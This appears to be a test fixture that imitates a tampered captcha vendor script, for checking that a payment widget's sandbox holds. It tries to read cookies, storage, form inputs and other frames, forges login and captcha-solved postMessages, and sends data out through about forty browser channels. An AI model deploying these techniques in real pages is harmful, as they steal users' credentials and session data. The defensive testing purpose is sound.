/**
 * A captcha script that somebody has tampered with, for `hostile-vendor.spec.ts`. It tries to read the widget and the host,
 * to act for them, and to send its findings to another server. It writes its findings to `data-stolen` of its page, as JSON,
 * and the names of its attempts to `data-tried`. Then it shows two buttons, like a vendor.
 *
 * The captcha id is the address to which it sends.
 */
window.initGeetest4 = (options, ready) => {
  const target = options.captchaId;
  const root = document.documentElement;
  const stolen = [];
  const tried = [];
  let onSuccess;

  /** Runs an attempt, and keeps its result. @param {string} name @param {() => unknown} attempt */
  async function attempt(name, attempt) {
    tried.push(name);
    try {
      const found = await attempt();
      if (found) stolen.push({ name, found: String(found) });
    } catch {
      // Refused, as it should be.
    }
  }

  const windows = { parent: window.parent, top: window.top, opener: window.opener, aunt: window.top?.opener };

  /** The data that the script tries to read. */
  async function read() {
    for (const [name, view] of Object.entries(windows)) {
      await attempt(`${name}: document`, () => view.document.documentElement.outerHTML);
      await attempt(`${name}: inputs`, () =>
        [...view.document.querySelectorAll('input')].map((one) => one.value),
      );
      await attempt(`${name}: address`, () => view.location.href);
      await attempt(`${name}: local storage`, () => JSON.stringify(view.localStorage));
      await attempt(`${name}: session storage`, () => JSON.stringify(view.sessionStorage));
      await attempt(`${name}: cookies`, () => view.document.cookie);
      await attempt(`${name}: globals`, () => Object.keys(view.paywidgetDebug ?? view.paywidgetEarly).join());
      await attempt(`${name}: frame element`, () => view.frameElement.outerHTML);
    }
    await attempt('own frame element', () => window.frameElement.outerHTML);
    await attempt('own session storage', () => JSON.stringify({ ...sessionStorage }).replace('{}', ''));
    await attempt('own local storage', () => JSON.stringify({ ...localStorage }).replace('{}', ''));
    await attempt('own cookies', () => document.cookie);
    await attempt('own databases', async () => (await indexedDB.databases()).map(({ name }) => name).join());
    await attempt('own caches', async () => (await caches.keys()).join());
    await attempt('own referrer', () => new URL(document.referrer).pathname.replace('/', ''));
    await attempt('siblings', () => [...window.parent.frames].map((frame) => frame.document.body.outerHTML));
    // Whatever the widget or the host sends here besides the start of the captcha.
    window.addEventListener('message', ({ data }) => stolen.push({ name: 'message', found: String(data) }));
  }

  /** Forged messages of the host and of the widget. */
  function forge() {
    const user = { token: 'forged', currency: 'USD' };
    const messages = [
      { type: 'login.token', payload: { token: 'forged' } },
      { type: 'update', payload: { user, theme: 'dark' } },
      { type: 'loaded', payload: { user } },
      { type: 'close' },
      { type: 'paywidget.redirect', url: target },
      { type: 'paywidget.captcha.solved', outputs: { geetestPassToken: 'x', amount: '1' } },
      { messageType: 'Analytics', event: 'forged', data: {} },
      { messageType: 'Redirect', url: target, method: 'GET', data: {} },
      { messageType: 'Close' },
    ];
    for (const [name, view] of Object.entries(windows)) {
      for (const message of messages) {
        void attempt(`${name}: ${message.type ?? message.messageType}`, () => {
          view.postMessage(JSON.stringify(message), '*');
          view.postMessage(message, '*');
        });
      }
    }
  }

  /** Adds an element that loads something. */
  const add = (tag, attributes, parent = document.body) => {
    const element = Object.assign(document.createElement(tag), attributes);
    parent.append(element);
    return element;
  };

  const inWorker = (url) => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)})`])));

  /** The ways to send data to another server. Each uses another address. */
  const channels = {
    fetch: (url) => void fetch(url, { mode: 'no-cors' }),
    'fetch with credentials': (url) => void fetch(url, { method: 'POST', body: 'x', credentials: 'include' }),
    'fetch that outlives the page': (url) => void fetch(url, { mode: 'no-cors', keepalive: true }),
    beacon: (url) => void navigator.sendBeacon(url, 'x'),
    request: (url) => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.send('x');
    },
    picture: (url) => void Object.assign(new Image(), { src: url }),
    'svg picture': (url) => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      svg.setAttribute('href', url);
      add('div', {}).appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(svg);
    },
    script: (url) => void add('script', { src: url }),
    module: (url) => import(url),
    style: (url) => void add('link', { rel: 'stylesheet', href: url }),
    'style import': (url) => void add('style', { textContent: `@import "${url}";` }),
    background: (url) => {
      add('div', { textContent: 'x' }).style.backgroundImage = `url("${url}")`;
    },
    font: (url) => {
      add('style', { textContent: `@font-face { font-family: stolen; src: url("${url}"); }` });
      add('p', { textContent: 'x' }).style.fontFamily = 'stolen';
    },
    audio: (url) => void add('audio', { src: url, preload: 'auto' }),
    video: (url) => void add('video', { poster: url, src: `${url}/video`, preload: 'auto' }),
    frame: (url) => void add('iframe', { src: url }),
    'frame of markup': (url) =>
      void add('iframe', { srcdoc: `<img src="${url}"><script src="${url}/2"></script>` }),
    'empty frame': (url) => void add('iframe', {}).contentWindow.fetch(url, { mode: 'no-cors' }),
    object: (url) => void add('object', { data: url }),
    embed: (url) => void add('embed', { src: url }),
    worker: (url) => void inWorker(url),
    'shared worker': (url) => void new SharedWorker(url),
    'service worker': (url) => navigator.serviceWorker.register(url).then(() => 'registered'),
    socket: (url) => void new WebSocket(url.replace('http', 'ws')),
    events: (url) => void new EventSource(url),
    'ping of a link': (url) => add('a', { href: '#x', ping: url, textContent: 'x' }).click(),
    prefetch: (url) => void add('link', { rel: 'prefetch', href: url }, document.head),
    preload: (url) => void add('link', { rel: 'preload', as: 'image', href: url }, document.head),
    'preload of a module': (url) => void add('link', { rel: 'modulepreload', href: url }, document.head),
    manifest: (url) => void add('link', { rel: 'manifest', href: url }, document.head),
    icon: (url) => void add('link', { rel: 'icon', href: url }, document.head),
    'rules of speculation': (url) =>
      void add('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ urls: [url] }] }),
      }),
    'form in a frame': (url) => {
      add('iframe', { name: 'sink' });
      add('form', { action: url, method: 'post', target: 'sink' }).submit();
    },
    'form in a window': (url) => add('form', { action: url, target: '_blank' }).submit(),
    'form in the top window': (url) => add('form', { action: url, target: '_top' }).submit(),
    window: (url) => window.open(url)?.name,
    'window without an opener': (url) => window.open(url, '_blank', 'noopener')?.name,
    'link in a window': (url) => add('a', { href: url, target: '_blank', textContent: 'x' }).click(),
    'top window': (url) => {
      window.top.location = url;
    },
    'parent window': (url) => {
      window.parent.location.href = url;
    },
    'parent by name': (url) => window.open(url, '_parent')?.name,
    base: (url) => {
      add('base', { href: `${url}/` }, document.head);
      add('img', { src: 'picture.png' });
    },
  };

  /** The ways to load another page into this frame. Each is a button, because the frame's page is then gone. */
  const exits = {
    address: (url) => {
      location.href = url;
    },
    link: (url) => add('a', { href: url, textContent: 'x' }).click(),
    download: (url) => add('a', { href: url, download: 'x', textContent: 'x' }).click(),
    refresh: (url) => void add('meta', { httpEquiv: 'refresh', content: `0;url=${url}` }, document.head),
  };

  const addressOf = (name) => `${target}?${new URLSearchParams({ by: name })}`;

  async function send() {
    for (const [name, channel] of Object.entries(channels))
      await attempt(name, () => channel(addressOf(name)));
  }

  function addButton(text, onPress) {
    const button = add('button', { type: 'button', textContent: text });
    button.style.position = 'relative';
    button.addEventListener('click', onPress);
  }

  const chain = (name) => (listener) => {
    if (name === 'ready') setTimeout(listener, 0);
    if (name === 'success') onSuccess = listener;
    if (name === 'boxShow') captcha.showBox = listener;
    return captcha;
  };
  const captcha = {
    onReady: chain('ready'),
    onSuccess: chain('success'),
    onError: chain('error'),
    onClose: chain('close'),
    onBoxShow: chain('boxShow'),
    getValidate: () => ({ captcha_output: 'x', gen_time: '1', lot_number: 'x', pass_token: 'hostile-pass' }),
    showCaptcha: async () => {
      await read();
      forge();
      await send();
      captcha.showBox();
      addButton('Try again with a press', send);
      for (const [name, exit] of Object.entries(exits))
        addButton(`Leave by ${name}`, () => exit(addressOf(name)));
      addButton('Pass', () => onSuccess());
      // The messages and answers to all this arrive before this does.
      setTimeout(
        () => Object.assign(root.dataset, { stolen: JSON.stringify(stolen), tried: tried.join('\n') }),
        500,
      );
    },
  };
  ready(captcha);
};
